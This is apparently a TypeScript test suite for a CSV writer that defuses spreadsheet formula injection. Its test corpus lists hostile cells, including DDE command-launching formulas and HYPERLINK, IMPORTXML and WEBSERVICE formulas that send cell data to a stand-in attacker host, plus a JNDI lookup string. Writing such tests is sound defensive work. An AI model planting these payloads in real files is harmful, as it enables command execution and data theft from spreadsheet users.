/** Hostile cells, read back by a reader that is independent of the writer. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvCell, csvLine } from './csv.ts';

/**
 * Calls a program, contacts a server, or only looks like it: each starts with a character that spreadsheets
 * evaluate.
 */
const dangerous = [
  "=cmd|'/C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  '=IFERROR(1,2)',
  "+cmd|'/C calc'!A0",
  '+1+1',
  '+49 30 901820',
  '-1+1',
  "-cmd|'/C calc'!A0",
  '-2+3+cmd|calc!A0',
  '- a list',
  '@SUM(1+1)*cmd|calc!A0',
  '@lanternfish says hello',
  '@',
  '=',
  '+',
  '-',
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\rplain after a return',
  '\n=1+1',
  '\nplain after a line feed',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\u202e=1+1',
  '\u2066=1+1\u2069',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u0001=1+1',
  '\u001f@x',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹢1',
  '﹣1',
  '﹦1+1',
  '﹫x',
  '−1',
  '="quoted"',
  '=1,2',
  '=1;2',
];
/** Some programs start a new cell in the middle of ours. */
const dangerousLater: readonly [cell: string, written: string][] = [
  ['beans;=1+1', "beans;'=1+1"],
  ['beans; @SUM(1)', "beans; '@SUM(1)"],
  ["fresh\n=cmd|'/C calc'!A0", "fresh\n'=cmd|'/C calc'!A0"],
  ['="a""b"\r\n=2', '\'="a""b"\r\n\'=2'],
  ['three\n-1+cmd', "three\n'-1+cmd"],
  ['a\t+1', "a\t'+1"],
];
/** Unusual cells that must be kept as they are. */
const harmless = [
  'plain',
  '',
  'comma, inside',
  'semicolon; inside',
  'a "quote" inside',
  '"',
  '""',
  '","',
  'two\nlines',
  'a list:\n- one\n- two',
  'two\r\nlines',
  'a return\rinside',
  'tab\tinside',
  'ends with a space ',
  ' begins with one',
  "'an apostrophe first",
  'שלום עולם',
  'مرحبا بالعالم',
  'नमस्ते',
  '日本語のテキスト',
  '👩‍🚀 from space',
  'e\u0301 combined',
  'a=b',
  '1+1=2',
  'mail@example.com',
  '100%',
  '| pipe',
  '\\ backslash',
  '<script>alert(1)</script>',
  '#{jndi:ldap://evil.example}',
  '2026-11-15',
];
const notRepresentable = ['a\0b', '\0=1+1', 'half \ud83d of a pair', '\udc00=1'];

/** A reader of RFC 4180 that shares nothing with the writer: one character after the other. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text.charAt(at);
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text.charAt(at + 1) === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (character === '"' && cell === '') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text.charAt(at + 1) === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at += 1;
    } else cell += character;
  }
  assert.deepEqual([row, cell, quoted], [[], '', false], 'the last line is not whole');
  return rows;
}

const startsFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell.trimStart() || cell);

test('no cell of a hostile corpus is a formula, and each is read back unchanged, behind an apostrophe', () => {
  assert.ok(dangerous.length + harmless.length + notRepresentable.length >= 60);
  const corpus = [...dangerous, ...harmless];
  const rows = readCsv(corpus.map((cell, index) => csvLine([index, cell, 'end'])).join(''));
  assert.equal(rows.length, corpus.length);
  for (const [index, row] of rows.entries()) {
    const original = corpus[index] ?? '';
    assert.deepEqual(row, [String(index), index < dangerous.length ? `'${original}` : original, 'end']);
    assert.ok(!startsFormula(row[1] ?? ''), original);
  }
});

test('no cell is a formula for a program that also splits cells at semicolons and newlines', () => {
  const rows = readCsv(dangerousLater.map(([cell]) => csvLine([cell])).join(''));
  assert.deepEqual(
    rows,
    dangerousLater.map(([, written]) => [written]),
  );
});

test('characters that no text may contain are left out: NUL, and lone surrogates', () => {
  const rows = readCsv(notRepresentable.map((cell) => csvLine([cell])).join(''));
  assert.deepEqual(rows, [['ab'], ["'=1+1"], ['half \ufffd of a pair'], ['\ufffd=1']]);
});

test('our own numbers stay numbers, also negative ones; values that were not reported are empty', () => {
  assert.equal(csvLine([-12, 0, 1.5, null, Number.NaN]), '-12,0,1.5,,\r\n');
  assert.equal(csvCell('-12'), "'-12");
});

test('property: any cells come back, none as a formula', () => {
  const anything = fc.string({ unit: 'binary' });
  fc.assert(
    fc.property(fc.array(anything, { minLength: 1, maxLength: 4 }), (cells) => {
      const [row = []] = readCsv(csvLine(cells));
      assert.equal(row.length, cells.length);
      for (const [index, cell] of row.entries()) {
        assert.ok(!startsFormula(cell));
        const clean = (cells[index] ?? '').toWellFormed().replaceAll('\0', '');
        assert.equal(cell.replaceAll("'", ''), clean.replaceAll("'", ''));
        for (const part of cell.split(/[;\t\r\n]/)) assert.ok(!/^\s*(?:[=+@]|-(?! ))/.test(part));
      }
    }),
    { numRuns: 300 },
  );
});
